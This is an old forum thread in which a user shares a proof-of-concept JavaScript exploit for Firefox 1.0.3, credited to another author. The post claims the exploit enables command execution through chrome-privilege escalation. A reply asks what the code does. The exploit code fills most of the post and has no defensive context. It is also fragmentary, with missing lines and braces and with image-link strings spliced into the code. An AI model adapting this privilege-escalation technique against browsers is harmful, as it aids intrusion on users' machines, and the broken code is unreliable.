Firefox exploit

Started by benthehutt, May 29, 2005, 09:06:09 PM

Previous topic - Next topic
I found a pretty dangerous firefox mishap, turns out you can get some pretty major command executions exploits from something like this:

<title>Proof-of-Concept for Firefox 1.0.3 - by moz_bug_r_a4</title>
// it needs chrome privilege to get |Components.stack|
var code = "alert('Exploit!\\n\\n' + Components.stack);";
var evalCode = code.replace(/'/g, '"').replace(/\\/g, '\\\\');
var scriptCode = "arguments.callee.__parent__.eval('" + evalCode + "');'';";

var script = (function() {
function x() { new Object(); }
return new Script(scriptCode);document.body.__defineGetter__("type", function() {
return { toString : script };

var event =document.createEvent("Events");
event.initEvent("PluginNotFound", true, true);

I didn't write it, just thought it was interesting.
Build a man a fire, and he'll be warm for a day. Set a man on fire, and he'll be warm forthe rest of his life.

can u explan what exactly itdose????

SMF spam blocked by CleanTalk